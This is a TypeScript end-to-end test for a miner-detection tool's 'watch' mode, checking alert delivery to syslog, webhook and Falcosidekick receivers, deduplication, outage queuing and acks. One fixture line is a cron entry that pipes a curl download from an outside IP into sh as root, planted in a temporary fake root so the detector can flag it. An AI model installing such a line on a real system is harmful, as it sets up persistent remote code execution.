// End-to-end: `minehunter watch` delivering to real receivers. rsyslogd (Debian's, started by the
// test on loopback with its own config: UDP, TCP, TLS with a test CA, and a unix socket) and two
// HTTP receivers of the test's own (a webhook, and one standing in for Falcosidekick). A harmless
// look-alike miner started while watch runs on this host → one alert at each sink within 15 s
// (printed); left running for 3+ intervals → no repeat, its count grows in the state; stopped →
// one `resolved`. The webhook receiver answers 503 for a while meanwhile → every alert arrives
// after, none twice. The watcher killed with SIGKILL and restarted → nothing said again. A second
// watcher on a temp fake root (--root): a cron file with a download-and-run line → one alert at the
// TLS syslog and the webhook within 5 s (printed), carrying the content scan's YARA evidence;
// `minehunter ack` on it reaches the running watcher.
import { spawn, type ChildProcess } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CLI_PATH, REPO_ROOT, cliEnv, ensureBuilt, runCli } from '../helpers/cli.js';
import { acquireHostLock, buildLookalike, startLookalike, type Lookalike } from '../helpers/lookalike.js';
import { RSYSLOGD, startRsyslog, type Rsyslog, type RsyslogInput } from '../helpers/rsyslog.js';
import { startStratumPool, type StratumPool } from '../helpers/stratum-pool.js';
import { startWebhookReceiver, type WebhookReceiver } from '../helpers/webhook-receiver.js';
import { savedState } from '../../src/pipeline/watch-store.js';

/** How long the webhook receiver is down: the acceptance's 30 s (MINEHUNTER_TEST_WEBHOOK_DOWN_S to change). */
const DOWN_SECONDS = Number(process.env.MINEHUNTER_TEST_WEBHOOK_DOWN_S ?? 30);
const CRON_LINE = '*/5 * * * * root curl -fsSL http://198.51.100.7/x.sh | sh\n';

interface Event {
  event: 'finding' | 'repeat' | 'resolved';
  fingerprint: string;
  ruleId?: string;
  changed?: boolean;
  finding?: { ruleId: string; evidence: { type: string; pid?: number; field?: string }[] };
}

let dir = '';
let release: (() => Promise<void>) | undefined;
let rsyslog: Rsyslog | undefined;
let hook: WebhookReceiver | undefined;
let sidekick: WebhookReceiver | undefined;
let pool: StratumPool | undefined;
let binary = '';
const children = new Set<ChildProcess>();

beforeAll(async () => {
  await ensureBuilt();
  release = await acquireHostLock();
  dir = mkdtempSync(path.join(os.tmpdir(), 'minehunter-watch-sinks-'));
  rsyslog = await startRsyslog(path.join(dir, 'rsyslog'));
  hook = await startWebhookReceiver();
  sidekick = await startWebhookReceiver();
  pool = await startStratumPool();
  binary = await buildLookalike(dir);
  // The content scan's compiled rules come from the scan cache, as after any earlier scan.
  const sample = path.join(dir, 'warm.txt');
  writeFileSync(sample, 'nothing here\n');
  await runCli([
    'scan',
    '--path',
    sample,
    '--no-default-allow',
    '-q',
    '--format',
    'json',
    '--fail-on',
    'none',
  ]);
}, 300_000);

afterAll(async () => {
  for (const c of children) c.kill('SIGKILL');
  await rsyslog?.stop();
  await hook?.close();
  await sidekick?.close();
  await pool?.close();
  if (dir) rmSync(dir, { recursive: true, force: true });
  await release?.();
});

interface Watcher {
  child: ChildProcess;
  stderr(): string;
  /** Resolves after the n-th scan note (counting from the start of this watcher). */
  scans(n: number, timeoutMs?: number): Promise<void>;
  exited: Promise<number | null>;
}

function startWatch(args: string[]): Watcher {
  let stderr = '';
  const child = spawn(process.execPath, [CLI_PATH, 'watch', '--no-default-allow', ...args], {
    cwd: REPO_ROOT,
    env: { ...process.env, ...envCache },
    stdio: ['ignore', 'ignore', 'pipe'],
  });
  children.add(child);
  child.stderr!.setEncoding('utf8').on('data', (d: string) => (stderr += d));
  const exited = new Promise<number | null>((r) =>
    child.once('close', (code) => {
      children.delete(child);
      r(code);
    }),
  );
  return {
    child,
    stderr: () => stderr,
    exited,
    scans: (n, timeoutMs = 60_000) =>
      until(
        `${n} scans`,
        () => (stderr.match(/: scan \(/g) ?? []).length >= n,
        timeoutMs,
        () => stderr,
      ),
  };
}
let envCache: NodeJS.ProcessEnv = {};

async function until(
  what: string,
  test: () => boolean,
  timeoutMs: number,
  detail: () => string,
): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!test()) {
    if (Date.now() > deadline) throw new Error(`no ${what} within ${timeoutMs} ms\n${detail()}`);
    await new Promise((r) => setTimeout(r, 50));
  }
}

const fileEvents = (file: string): Event[] =>
  existsSync(file)
    ? readFileSync(file, 'utf8')
        .split('\n')
        .filter((l) => l.trim() !== '')
        .map((l) => JSON.parse(l) as Event)
    : [];
/** The structured-data parameter of a syslog line rsyslog wrote ("… fingerprint="…" …"). */
const sd = (line: string, name: string) => new RegExp(` ${name}="([^"]*)"`).exec(line)?.[1];
const cef = (line: string, name: string) => new RegExp(` ${name}=(\\S+)`).exec(line)?.[1];

/** Per sink: the (event, fingerprint) pairs it received, and whether one names the pid. */
function received(
  input: RsyslogInput | 'webhook' | 'falcosidekick',
): { event: string; fp: string; pid?: string }[] {
  if (input === 'webhook')
    return hook!.received.map((r) => {
      const b = r.body as unknown as Event;
      const pid = b.finding?.evidence.find((e) => e.type === 'process')?.pid;
      return { event: b.event, fp: b.fingerprint, ...(pid ? { pid: String(pid) } : {}) };
    });
  if (input === 'falcosidekick')
    return sidekick!.received.map((r) => {
      const f = r.body.output_fields as Record<string, string | number>;
      const pid = f['proc.pid'];
      return {
        event: String(f['minehunter.event']),
        fp: String(f['minehunter.fingerprint']),
        ...(pid ? { pid: String(pid) } : {}),
      };
    });
  return rsyslog!.lines(input).map((l) =>
    input === 'tls'
      ? {
          event: cef(l, 'act') ?? '',
          fp: cef(l, 'cs1') ?? '',
          ...(cef(l, 'spid') ? { pid: cef(l, 'spid') } : {}),
        }
      : {
          event: sd(l, 'event') ?? '',
          fp: sd(l, 'fingerprint') ?? '',
          ...(sd(l, 'pid') ? { pid: sd(l, 'pid') } : {}),
        },
  );
}
const SINKS = ['udp', 'tcp', 'tls', 'unix', 'webhook', 'falcosidekick'] as const;

function sinkArgs(alerts: string): string[] {
  const r = rsyslog!;
  return [
    ...['--sink', `syslog+udp://127.0.0.1:${r.udpPort}`],
    ...['--sink', `syslog+tcp://127.0.0.1:${r.tcpPort}`],
    ...['--sink', `syslog+tls://127.0.0.1:${r.tlsPort}?format=cef`],
    ...['--sink', `syslog://${r.socket}`],
    // Short retries: the test waits for the queue to drain once the receiver is back.
    ...['--sink', `webhook+${hook!.url}?backoff=0.5&backoff-max=2`],
    ...['--sink', `falcosidekick+${sidekick!.url}`],
    ...['--sink', `file:${alerts}`],
    ...['--tls-ca', r.caFile],
  ];
}

describe.runIf(existsSync(RSYSLOGD))(
  'minehunter watch → syslog (UDP, TCP, TLS, unix), webhook, Falcosidekick',
  () => {
    it('raises a look-alike once at every sink, counts without repeating, resolves it, queues through a webhook outage, and repeats nothing after SIGKILL', async () => {
      envCache = await cliEnv();
      const state = path.join(dir, 'live', 'state.json');
      const alerts = path.join(dir, 'live', 'alerts.jsonl');
      // --full-every 0: a scan every interval, so "3 intervals" are 3 scans.
      const args = ['--interval', '1', '--full-every', '0', '--state', state, ...sinkArgs(alerts)];
      let w = startWatch(args);
      let la: Lookalike | undefined;
      try {
        await w.scans(1);
        const t0 = Date.now();
        la = startLookalike({ binary, poolPort: pool!.port, seconds: 120 });
        const pid = String(la.pid);
        const latency: Record<string, number> = {};
        await until(
          'an alert naming the look-alike at every sink',
          () => {
            for (const s of SINKS)
              if (latency[s] === undefined && received(s).some((e) => e.event === 'finding' && e.pid === pid))
                latency[s] = Date.now() - t0;
            return SINKS.every((s) => latency[s] !== undefined);
          },
          30_000,
          () => `${JSON.stringify(latency)}\n${w.stderr()}`,
        );
        console.log(`watch-sinks: look-alike alert latency (ms from its start): ${JSON.stringify(latency)}`);
        for (const s of SINKS) expect(latency[s], s).toBeLessThanOrEqual(15_000);
        const mine = new Set(
          fileEvents(alerts)
            .filter((e) => e.finding?.evidence.some((x) => x.pid === la!.pid))
            .map((e) => e.fingerprint),
        );
        expect(mine.size).toBeGreaterThan(0);

        // The webhook receiver goes down; the watcher keeps scanning the running look-alike.
        console.log(`watch-sinks: webhook receiver down for ${DOWN_SECONDS} s`);
        hook!.down = true;
        const downUntil = Date.now() + DOWN_SECONDS * 1000;
        const scansSoFar = (w.stderr().match(/: scan \(/g) ?? []).length;
        await w.scans(scansSoFar + 4);
        // The state, in the scan cache's SQLite database, counts the sightings.
        const saved = savedState(state, envCache)!;
        for (const fp of mine) expect(saved.findings[fp]!.count, fp).toBeGreaterThanOrEqual(4);
        for (const s of SINKS.filter((x) => x !== 'webhook'))
          for (const fp of mine)
            expect(
              received(s).filter((e) => e.fp === fp),
              `${s} ${fp}`,
            ).toHaveLength(1);

        await la.stop();
        await until(
          'resolved at the TLS syslog',
          () => [...mine].every((fp) => received('tls').some((e) => e.fp === fp && e.event === 'resolved')),
          30_000,
          () => w.stderr(),
        );
        expect(hook!.received.some((r) => r.body.event === 'resolved')).toBe(false);
        // Down for DOWN_SECONDS at least, and until the resolved events were refused at least once.
        await until(
          'a refused delivery',
          () => hook!.refused > 0,
          30_000,
          () => w.stderr(),
        );
        await new Promise((r) => setTimeout(r, Math.max(0, downUntil - Date.now())));
        hook!.down = false;
        console.log(
          `watch-sinks: webhook receiver back after ${((Date.now() - downUntil) / 1000 + DOWN_SECONDS).toFixed(1)} s, ${hook!.refused} deliveries refused meanwhile`,
        );
        expect(w.stderr()).toMatch(
          /webhook\+http:\/\/127\.0\.0\.1:\d+\/alerts\S* .*failing: HTTP 503|HTTP 503/,
        );
        const emitted = () => fileEvents(alerts);
        await until(
          'the webhook queue to drain',
          () => hook!.received.length >= emitted().length,
          30_000,
          () => w.stderr(),
        );

        // Every sink: one finding and one resolved per look-alike fingerprint, nothing else for it.
        for (const s of SINKS)
          for (const fp of mine)
            expect(
              received(s)
                .filter((e) => e.fp === fp)
                .map((e) => e.event),
              `${s} ${fp}`,
            ).toEqual(['finding', 'resolved']);
        // The webhook got exactly what watch emitted, each once, in order.
        const strip = (b: Record<string, unknown>) => {
          const { id: _id, host: _host, sent_at: _sent, ...event } = b;
          return JSON.stringify(event);
        };
        expect(hook!.received.map((r) => strip(r.body))).toEqual(emitted().map((e) => JSON.stringify(e)));
        const keys = hook!.received.map((r) => r.headers['idempotency-key']);
        expect(new Set(keys).size).toBe(keys.length);

        // SIGKILL, then the same state: the findings still present are not raised again.
        const before = savedState(state, envCache)!;
        const sentBefore = emitted().length;
        w.child.kill('SIGKILL');
        await w.exited;
        w = startWatch(args);
        await w.scans(4);
        const after = emitted().slice(sentBefore);
        expect(
          after.filter((e) => e.event === 'finding' && before.findings[e.fingerprint] !== undefined),
        ).toEqual([]);
        w.child.kill('SIGTERM');
        expect(await w.exited).toBe(0);
      } finally {
        await la?.stop();
        w.child.kill('SIGKILL');
      }
    }, 200_000);

    it('raises a download-and-run cron file planted under --root within 5 s, with its YARA evidence, once, and takes an ack', async () => {
      envCache = await cliEnv();
      const root = path.join(dir, 'fake-root');
      mkdirSync(path.join(root, 'etc', 'cron.d'), { recursive: true });
      writeFileSync(path.join(root, 'etc', 'passwd'), 'root:x:0:0:root:/root:/bin/sh\n');
      const alerts = path.join(dir, 'cron', 'alerts.jsonl');
      const tlsBefore = rsyslog!.lines('tls').length;
      const hookBefore = hook!.received.length;
      const w = startWatch([
        '--root',
        root,
        '--interval',
        '1',
        '--full-every',
        '0',
        '--state',
        path.join(dir, 'cron', 'state.json'),
        '--sink',
        `syslog+tls://127.0.0.1:${rsyslog!.tlsPort}`,
        '--sink',
        `webhook+${hook!.url}`,
        '--sink',
        `file:${alerts}`,
        '--tls-ca',
        rsyslog!.caFile,
      ]);
      try {
        await w.scans(1);
        const t0 = Date.now();
        writeFileSync(path.join(root, 'etc', 'cron.d', 'system-update'), CRON_LINE);
        const latency: Record<string, number> = {};
        const tlsLines = () => rsyslog!.lines('tls').slice(tlsBefore);
        const hookBodies = () => hook!.received.slice(hookBefore).map((r) => r.body as unknown as Event);
        await until(
          'the cron alert at the TLS syslog and the webhook',
          () => {
            if (
              latency.tls === undefined &&
              tlsLines().some((l) => sd(l, 'rule') === 'persistence-download-exec')
            )
              latency.tls = Date.now() - t0;
            if (
              latency.webhook === undefined &&
              hookBodies().some((b) => b.finding?.ruleId === 'persistence-download-exec')
            )
              latency.webhook = Date.now() - t0;
            return latency.tls !== undefined && latency.webhook !== undefined;
          },
          30_000,
          () => w.stderr(),
        );
        console.log(`watch-sinks: cron alert latency (ms from the write): ${JSON.stringify(latency)}`);
        expect(latency.tls).toBeLessThanOrEqual(5000);
        expect(latency.webhook).toBeLessThanOrEqual(5000);
        await w.scans((w.stderr().match(/: scan \(/g) ?? []).length + 3);
        // One alert for the file: the content scan's YARA matches join the persistence finding.
        const events = fileEvents(alerts);
        expect(events.map((e) => [e.event, e.finding?.ruleId])).toEqual([
          ['finding', 'persistence-download-exec'],
        ]);
        expect(events[0]!.finding!.evidence.some((e) => e.field?.startsWith('yara file:'))).toBe(true);
        expect(tlsLines()).toHaveLength(1);
        expect(tlsLines()[0]).toMatch(
          /^minehunter FINDING \[minehunter@32473 id="[0-9a-f]{32}" event="finding" /,
        );

        // `minehunter ack`: an unknown fingerprint is a usage error; a known one reaches the watcher.
        const stateFile = path.join(dir, 'cron', 'state.json');
        const unknown = await runCli(['ack', '0000000000000000', '--state', stateFile]);
        expect(unknown.code).toBe(2);
        expect(unknown.stderr).toMatch(/not a finding the watcher .* knows/);
        const fp = events[0]!.fingerprint;
        const acked = await runCli(['ack', fp, '--state', stateFile]);
        expect(acked.code, acked.stderr).toBe(0);
        expect(acked.stdout).toContain(`acknowledged ${fp} (persistence-download-exec)`);
        await until(
          'the ack to reach the watcher',
          () => w.stderr().includes(`acknowledged: ${fp}`),
          15_000,
          () => w.stderr(),
        );
        await until(
          'the ack in the saved state',
          () => savedState(stateFile, envCache)?.findings[fp]?.acked === true,
          15_000,
          () => w.stderr(),
        );
      } finally {
        w.child.kill('SIGTERM');
        await w.exited;
      }
    }, 90_000);
  },
);
